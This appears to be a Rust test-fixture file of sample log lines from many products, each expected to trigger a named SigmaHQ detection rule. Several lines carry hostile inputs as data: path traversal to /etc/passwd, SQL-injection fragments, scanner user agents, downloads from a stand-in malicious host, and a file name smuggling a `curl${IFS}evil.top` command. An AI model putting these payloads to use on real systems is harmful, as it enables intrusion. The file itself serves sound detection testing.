//! What products write, and the rule of SigmaHQ's that it must trigger.

/// A record that must trigger a rule: name, rule, body, attributes.
pub type Case = (&'static str, &'static str, &'static str, &'static [(&'static str, &'static str)]);

pub const WEB: &[Case] = &[
    (
        "combined line",
        "5513deaf-f49a-46c2-a6c8-3f111b5cb453",
        r#"203.0.113.9 - - [05/Aug/2026:10:15:30 +0000] "GET /a?id=select%20x HTTP/1.1" 200 12 "-" "M/5""#,
        &[],
    ),
    (
        "IIS row",
        "19aa4f58-94ca-45ff-bc34-92e533c0994a",
        "2026-08-05 10:15:30 10.0.0.4 GET /a.aspx - 80 - 203.0.113.9 WPScan+v3.8+(https://wpscan.com) - 404 0 2 15",
        &[],
    ),
    (
        "IIS row with its header read",
        "7745c2ea-24a5-4290-b680-04359cb84b35",
        "row",
        &[
            ("cs-method", "GET"),
            ("cs-uri-stem", "/a.aspx"),
            ("cs-uri-query", "f=../../../etc/passwd"),
            ("sc-status", "200"),
        ],
    ),
    (
        "HAProxy line",
        "7745c2ea-24a5-4290-b680-04359cb84b35",
        r#"203.0.113.9:55032 [04/Apr/2024:14:30:18.885] f~ b/s 0/0/0/1/1 404 1 - - ---- 1/1/1/1/0 0/0 "GET /a?f=../../../etc/passwd HTTP/1.1""#,
        &[],
    ),
    (
        "Envoy line",
        "19aa4f58-94ca-45ff-bc34-92e533c0994a",
        r#"[2026-08-05T10:15:30.310Z] "GET / HTTP/2" 404 - 0 0 2 1 "203.0.113.9" "sqlmap/1.7" "id" "shop" "10.0.2.1:80""#,
        &[],
    ),
    (
        "load balancer of AWS",
        "19aa4f58-94ca-45ff-bc34-92e533c0994a",
        r#"http 2018-07-02T22:23:00.186641Z app/lb/1 203.0.113.9:2817 10.0.0.1:80 0.0 0.0 0.0 404 404 34 366 "GET http://shop:80/x HTTP/1.1" "gobuster/3.1" - -"#,
        &[],
    ),
    (
        "Traefik JSON",
        "7745c2ea-24a5-4290-b680-04359cb84b35",
        r#"{"ClientHost":"203.0.113.9","RequestMethod":"GET","RequestPath":"/a?f=../../../etc/passwd","DownstreamStatus":200}"#,
        &[],
    ),
    (
        "Caddy JSON in the journal",
        "19aa4f58-94ca-45ff-bc34-92e533c0994a",
        r#"{"MESSAGE":"{\"logger\":\"http.log.access\",\"request\":{\"remote_ip\":\"203.0.113.9\",\"method\":\"GET\",\"uri\":\"/\",\"headers\":{\"User-Agent\":[\"Nikto/2.1\"]}},\"status\":404}","SYSLOG_IDENTIFIER":"caddy","__CURSOR":"s"}"#,
        &[],
    ),
    (
        "nginx JSON with Elastic's names",
        "7745c2ea-24a5-4290-b680-04359cb84b35",
        r#"{"time":"17/May/2015:08:05:32 +0000","remote_ip":"203.0.113.9","remote_user":"-","request":"GET /a?f=../../../etc/passwd HTTP/1.1","response":200,"bytes":0,"referrer":"-","agent":"M/5"}"#,
        &[],
    ),
    (
        "Cloud load balancer of Google",
        "7745c2ea-24a5-4290-b680-04359cb84b35",
        r#"{"httpRequest":{"requestMethod":"GET","requestUrl":"https://shop/a?f=../../../etc/passwd","status":200,"remoteIp":"203.0.113.9"}}"#,
        &[],
    ),
    (
        "Apache's error log without a name",
        "1da8ce0b-855d-4004-8860-7d64d42063b1",
        "[Fri Oct 08 17:08:41 2026] [notice] child pid 7 exit signal Segmentation fault (11)",
        &[],
    ),
    (
        "nginx's error log without a name",
        "59ec40bb-322e-40ab-808d-84fa690d7e56",
        "2026/08/05 10:15:30 [alert] 1#0: worker process 7 exited on signal 6 (core dumped)",
        &[],
    ),
];

pub const PROXY: &[Case] = &[
    (
        "squid",
        "5468045b-4fcc-4d1a-973c-c9c9578edacb",
        "1628158530.123 12 10.0.0.9 TCP_MISS/200 5120 GET https://www.pastebin.com/raw/x - HIER_DIRECT/203.0.113.5 text/plain",
        &[],
    ),
    (
        "squid's tunnel",
        "b494b165-6634-483d-8c47-2026a6c52372",
        "1628158530.123 12 10.0.0.9 TCP_TUNNEL/200 5120 CONNECT api.telegram.org:443 - HIER_DIRECT/203.0.113.5 -",
        &[],
    ),
    (
        "squid's combined format, no user agent",
        "21e44d78-95e7-421b-a464-ffd8395659c4",
        r#"10.0.0.9 - - [05/Aug/2026:10:15:30 +0000] "GET http://evil.top/a HTTP/1.1" 200 1 "-" "-" TCP_MISS:HIER_DIRECT"#,
        &[],
    ),
    (
        "Blue Coat",
        "00d0b5ab-1f55-4120-8e83-487c0a7baf19",
        r#"2026-08-05 10:15:30 53 10.0.0.9 bob - - OBSERVED "Web Hosting" - 200 TCP_NC_MISS GET application/octet-stream http evil.top 80 /a/setup.exe - exe "M/5" 10.1.1.1 5120 312 -"#,
        &[],
    ),
    (
        "Zscaler in CEF",
        "2c03648b-e081-41a5-b9fb-7d854a915091",
        "CEF:0|Zscaler|NSSWeblog|5.7|200|Allowed|3|act=Allowed src=10.0.0.9 dst=203.0.113.5 requestMethod=GET outcome=200 requestClientApplication=rclone/v1.60 request=evil.top/a",
        &[],
    ),
    (
        "Zscaler in JSON",
        "2c03648b-e081-41a5-b9fb-7d854a915091",
        r#"{"sourcetype":"zscalernss-web","event":{"url":"evil.top/a","useragent":"rclone/v1.60","requestmethod":"GET","status":"200"}}"#,
        &[],
    ),
    (
        "PAN-OS URL log",
        "00d0b5ab-1f55-4120-8e83-487c0a7baf19",
        "1,2026/08/05 10:15:30,1,THREAT,url,1,2026/08/05 10:15:30,10.0.0.9,203.0.113.5,,,r,,,web,v,a,b,c,d,e,,1,1,5,80,0,0,0,tcp,alert,\"evil.top/setup.exe\",x",
        &[],
    ),
    (
        "FortiGate's web filter",
        "00d0b5ab-1f55-4120-8e83-487c0a7baf19",
        r#"<189>date=2026-08-05 devid="F" type="utm" subtype="webfilter" srcip=10.0.0.9 hostname="evil.top" url="/setup.exe""#,
        &[],
    ),
    (
        "Suricata",
        "00d0b5ab-1f55-4120-8e83-487c0a7baf19",
        r#"{"event_type":"http","flow_id":1,"src_ip":"10.0.0.9","http":{"hostname":"evil.top","url":"/setup.exe","http_method":"GET"}}"#,
        &[],
    ),
];

pub const DNS: &[Case] = &[
    (
        "BIND",
        "c64c5175-5189-431b-a55e-6d9882158251",
        "05-Aug-2026 10:15:30.123 queries: info: client @0x7f 192.0.2.1#41234 (api.telegram.org): query: api.telegram.org IN A +E(0)K (192.0.2.53)",
        &[],
    ),
    (
        "Unbound through syslog",
        "c64c5175-5189-431b-a55e-6d9882158251",
        "Aug  5 10:15:30 ns unbound[1]: [1:0] info: 192.0.2.1 api.telegram.org. A IN",
        &[],
    ),
    (
        "dnsmasq",
        "c64c5175-5189-431b-a55e-6d9882158251",
        "Aug  5 10:15:30 dnsmasq[1]: query[A] api.telegram.org from 192.0.2.1",
        &[],
    ),
    (
        "CoreDNS in a pod",
        "c64c5175-5189-431b-a55e-6d9882158251",
        r#"[INFO] 10.244.0.5:38123 - 1 "A IN api.telegram.org. udp 40 false 512" NOERROR qr 106 0.0012s"#,
        &[("log.iostream", "stdout")],
    ),
    (
        "PowerDNS",
        "c64c5175-5189-431b-a55e-6d9882158251",
        "Aug  5 10:15:30 ns pdns_recursor[1]: 2 [1/1] question for 'api.telegram.org|A' from 192.0.2.1",
        &[],
    ),
    (
        "Windows' debug log",
        "c64c5175-5189-431b-a55e-6d9882158251",
        "8/5/2026 10:15:30 AM 0E3C PACKET  0000 UDP Rcv 10.0.0.5 8f6c   Q [0001   D   NOERROR] A      (3)api(8)telegram(3)org(0)",
        &[],
    ),
    (
        "Route 53",
        "c64c5175-5189-431b-a55e-6d9882158251",
        r#"{"version":"1.1","query_name":"api.telegram.org.","query_type":"A","rcode":"NOERROR","srcaddr":"10.0.0.9","answers":[]}"#,
        &[],
    ),
    (
        "AdGuard Home",
        "c64c5175-5189-431b-a55e-6d9882158251",
        r#"{"T":"2026-08-05T10:15:30Z","QH":"api.telegram.org","QT":"A","QC":"IN","IP":"10.0.0.9"}"#,
        &[],
    ),
    (
        "Zeek, with the answer",
        "8ae51330-899c-4641-8125-e39f2e07da72",
        r#"{"_path":"dns","uid":"C1","id.orig_h":"10.0.0.9","query":"x.y","qtype_name":"TXT","answers":["IEX(...)"]}"#,
        &[],
    ),
    (
        "FortiGate",
        "c64c5175-5189-431b-a55e-6d9882158251",
        r#"date=2026-08-05 devid="F" type="utm" subtype="dns" srcip=10.0.0.9 qname="api.telegram.org" qtype="A""#,
        &[],
    ),
];

pub const ZEEK: &[Case] = &[
    (
        "http in JSON by the file's name",
        "705072a5-bb6f-4ced-95b6-ecfa6602090b",
        r#"{"ts":1.0,"uid":"C1","id.orig_h":"10.0.0.9","id.resp_h":"203.0.113.5","method":"PUT","user_agent":"Microsoft-WebDAV","uri":"/a"}"#,
        &[("log.file.name", "http.log")],
    ),
    (
        "dns as a row",
        "fa7703d6-0ee8-4949-889c-48c84bc15b6f",
        "1628158530.1\tC1\t10.0.0.9\t5\t10.0.0.1\t53\tudp\t1\t-\tseed.nkn.org\t1\tC_INTERNET\t1\tA\t0\tNOERROR\tF\tF\tT\tT\t0\t-\t-\tF",
        &[("log.file.name", "dns.2026-08-05-10-00-00.log")],
    ),
    (
        "smb_files",
        "f1b3a22a-45e6-4004-afb5-4291f9c21166",
        "1628158530.1\tC1\t10.0.0.9\t5\t10.0.0.1\t445\t-\tSMB::FILE_OPEN\t\\\\10.0.0.1\\IPC$\tx-stdin\t0\t-\t-\t-\t-\t-",
        &[("log.file.name", "smb_files.log")],
    ),
    (
        "dce_rpc",
        "b640c0b8-87f8-4daa-aef8-95a24261dd1d",
        "1628158530.1\tC1\t10.0.0.9\t5\t10.0.0.1\t445\t0.1\tp\tsvcctl\tCreateServiceW",
        &[("log.file.name", "dce_rpc.log")],
    ),
    (
        "rdp",
        "1fc0809e-06bf-4de3-ad52-25e5263b7623",
        "1628158530.1\tC1\t203.0.113.9\t5\t10.0.0.1\t3389\t-\t-\t-\t-\t-\t-\t-",
        &[("log.file.name", "rdp.log")],
    ),
    (
        "kerberos",
        "503fe26e-b5f2-4944-a126-eab405cc06e5",
        "1628158530.1\tC1\t10.0.0.9\t5\t10.0.0.1\t88\tTGS\tb\tcifs/s\tT\t-\t-\t1.0\trc4-hmac\tT\tT",
        &[("log.file.name", "kerberos.log")],
    ),
    (
        "x509",
        "7100f7e3-92ce-4584-b7b7-01b40d3d4118",
        "1628158530.1\tabc\t3\t8BB00EE\tCN=x\tCN=x\t1.0\t2.0\trsa",
        &[("log.file.name", "x509.log")],
    ),
    (
        "conn as a flow",
        "7e4bfe58-4a47-4709-828d-d86c78b7cc1f",
        "1628158530.1\tC1\t10.0.0.9\t5\t203.0.113.5\t23\ttcp\t-\t-\t-\t-\tSF\tT\tF",
        &[("log.file.name", "conn.log")],
    ),
    (
        "http as a proxy's",
        "00d0b5ab-1f55-4120-8e83-487c0a7baf19",
        r#"{"_path":"http","uid":"C1","id.orig_h":"10.0.0.9","host":"evil.top","method":"GET","uri":"/setup.exe"}"#,
        &[],
    ),
];

const CLEARTEXT: &str = "d7fb8f0e-bd5f-45c2-b467-19571c490d7e";

pub const FIREWALLS: &[Case] = &[
    (
        "ufw",
        CLEARTEXT,
        "Aug  5 10:15:30 h kernel: [7.1] [UFW ALLOW] IN= OUT=eth0 SRC=10.0.0.9 DST=203.0.113.5 PROTO=TCP SPT=5 DPT=23",
        &[],
    ),
    (
        "pf",
        CLEARTEXT,
        "Aug  5 10:15:30 fw filterlog[1]: 5,,,1,igb1,match,pass,out,4,0x0,,64,0,0,DF,6,tcp,60,10.0.0.9,203.0.113.5,5,23,0,S",
        &[],
    ),
    (
        "ASA",
        CLEARTEXT,
        "<166>Aug 05 2026 10:15:30 fw1 : %ASA-6-302013: Built outbound TCP connection 1 for outside:203.0.113.5/23 (x) to inside:10.0.0.9/5 (x)",
        &[],
    ),
    (
        "FortiGate",
        CLEARTEXT,
        r#"<189>date=2026-08-05 devid="F" type="traffic" subtype="forward" srcip=10.0.0.9 dstip=203.0.113.5 dstport=23 action="accept""#,
        &[],
    ),
    (
        "PAN-OS",
        CLEARTEXT,
        "<14>Aug  5 10:15:30 PA-VM 1,2026/08/05 10:15:30,1,TRAFFIC,end,1,2026/08/05 10:15:30,10.0.0.9,203.0.113.5,,,r,,,telnet,v,a,b,c,d,e,,1,1,5,23,0,0,0,tcp,allow,1",
        &[],
    ),
    (
        "CEF through syslog",
        CLEARTEXT,
        "<14>Aug  5 10:15:30 cp CEF:0|Check Point|VPN-1|R80|Accept|x|1|src=10.0.0.9 dst=203.0.113.5 dpt=23 act=Accept",
        &[],
    ),
    (
        "SRX",
        CLEARTEXT,
        "<14>1 2026-08-05T10:15:30Z srx RT_FLOW - RT_FLOW_SESSION_CREATE [j@1 source-address=\"10.0.0.9\" source-port=\"5\" destination-address=\"203.0.113.5\" destination-port=\"23\"]",
        &[],
    ),
    (
        "flow log of AWS",
        CLEARTEXT,
        "2 123456789010 eni-1 10.0.0.9 203.0.113.5 5 23 6 20 4249 1 2 ACCEPT OK",
        &[],
    ),
    (
        "Windows' firewall",
        CLEARTEXT,
        "2026-08-05 10:15:30 ALLOW TCP 10.0.0.9 203.0.113.5 5 23 0 - 0 0 0 - - - SEND",
        &[],
    ),
    (
        "netflow receiver",
        "7e4bfe58-4a47-4709-828d-d86c78b7cc1f",
        "",
        &[("flow.type", "netflow_v9"), ("destination.port", "23"), ("destination.address", "203.0.113.5")],
    ),
];

pub const DEVICES: &[Case] = &[
    (
        "FortiGate's event",
        "cd0a4943-0edd-42cf-b50c-06f77a10d4c1",
        r#"<189>date=2026-08-05 devid="F" logid="1" type="event" subtype="system" user="admin" action="Add" cfgpath="system.admin""#,
        &[],
    ),
    (
        "FortiGate's event in CEF",
        "cd0a4943-0edd-42cf-b50c-06f77a10d4c1",
        "CEF:0|Fortinet|Fortigate|v6|44547|event:system|2|FTNTFGTaction=Add FTNTFGTcfgpath=system.admin",
        &[],
    ),
    (
        "FortiOS",
        "293ccb8c-bed8-4868-8296-bef30e303b7e",
        r#"date=2026-08-05 devid="F" logid="1" type="event" subtype="system" msg="/data/lib/libips.bak""#,
        &[],
    ),
    (
        "IOS commands",
        "9e8f6035-88bf-4a63-96b6-b17c0508257e",
        "<189>45: *Aug  5 10:15:30.123: %PARSER-5-CFGLOG_LOGGEDCMD: User:bob  logged command:no logging host",
        &[],
    ),
    (
        "TACACS+ accounting",
        "9e8f6035-88bf-4a63-96b6-b17c0508257e",
        "Aug  5 10:15:30 t tac_plus[1]: 10.0.0.1 bob tty2 192.0.2.4 stop task_id=5 service=shell cmd=no logging <cr>",
        &[],
    ),
    (
        "IOS-XE",
        "2ece8816-b7a0-4d9b-b0e8-ae7ad18bc02b",
        "<189>Aug  5 10:15:30 r1 46: Aug  5 10:15:30.1 UTC: %SYS-5-CONFIG_P: Configured programmatically by process SEP_webui_wsma_http from console as cisco_support on vty0",
        &[],
    ),
    (
        "IOS-XR's BGP",
        "56fa3cd6-f8d6-4520-a8c7-607292971886",
        "<187>RP/0/RSP0/CPU0:Aug  5 10:15:30.123 UTC: tcp[409]: %IP-TCP-3-BADAUTH : Invalid MD5 digest from 10.1.1.1:4711 to 10.1.1.2:179",
        &[],
    ),
    (
        "LDP",
        "50e606bf-04ce-4ca7-9d54-3449494bbd4b",
        "<187>Aug  5 2026 10:15:30 HW %%01SOCKET/4/SOCKET_TCP_PACKET_MD5_AUTHEN_FAIL(l)[12]:TCP MD5 authentication failed. (Protocol=LDP)",
        &[],
    ),
    (
        "Duo",
        "6f7e1c10-2dc9-4312-adb6-9574ff09a5c8",
        r#"{"event_type":"authentication","reason":"bypass_user","result":"success","txid":"1"}"#,
        &[],
    ),
    (
        "Huawei",
        "a557ffe6-ac54-43d2-ae69-158027082350",
        "<187>Aug  5 2026 10:15:30 HW %%01BGP/3/BGP_AUTH_FAILED(l)[12]:BGP session authentication failed. (LocalAddr=10.1.1.1:179)",
        &[],
    ),
    (
        "Juniper",
        "a7c0ae48-8df8-42bf-91bd-2ea57e2f9d43",
        "Aug  5 10:15:30 mx /kernel: tcp_auth_ok: Packet from 10.1.1.1:179 missing MD5 digest",
        &[],
    ),
    (
        "GlobalProtect's service",
        "f130a5f1-73ba-42f0-bf1e-b66a8361cb8f",
        r#"{"level":"error","task":"1-2","time":"t","message":"failed to unmarshal session(../../../../opt/panlogs/x) map , EOF"}"#,
        &[],
    ),
    (
        "GlobalProtect's telemetry",
        "bcd95697-e3e7-4c6f-8584-8e3503e6929f",
        "2026-08-05 dt_send INFO TX FILE: send_fname: /opt/panlogs/tmp/device_telemetry/minute/x`curl${IFS}evil.top`",
        &[("log.file.name", "device_telemetry_send.log")],
    ),
    ("Qualys", "1a395cbc-a84a-463a-9086-ed8a70e573c7", r#"{"HOST_ID":1,"QID":10693,"TITLE":"x"}"#, &[]),
    (
        "PAN-OS virus",
        "78cc2dd2-7d20-4d32-93ff-057084c38b93",
        "1,2026/08/05 10:15:30,1,THREAT,virus,1,2026/08/05 10:15:30,10.0.0.9,203.0.113.5,,,r,,,web,v,a,b,c,d,e,,1,1,5,80,0,0,0,tcp,deny,m.exe,Virus/Win32.Mimikatz(1),x",
        &[],
    ),
    (
        "MySQL's general log",
        "d84c0ded-edd7-4123-80ed-348bb3ccc4d5",
        "2023-07-31T08:34:16.116872Z\t   14 Query\tselect * from users",
        &[],
    ),
    (
        "PostgreSQL",
        "d84c0ded-edd7-4123-80ed-348bb3ccc4d5",
        "2026-08-05 10:15:30.123 UTC [147] bob@shop LOG:  statement: drop table x",
        &[],
    ),
    (
        "PostgreSQL's errors",
        "8a670c6d-7189-4b1c-8017-a417ca84a086",
        "2026-08-05 10:15:30.123 UTC [147] ERROR:  near \"x\": syntax error",
        &[],
    ),
    (
        "ClamAV",
        "78cc2dd2-7d20-4d32-93ff-057084c38b93",
        "Aug  5 10:15:30 h clamd[1]: /home/bob/m.exe: Win.Tool.Mimikatz-1 FOUND",
        &[],
    ),
];
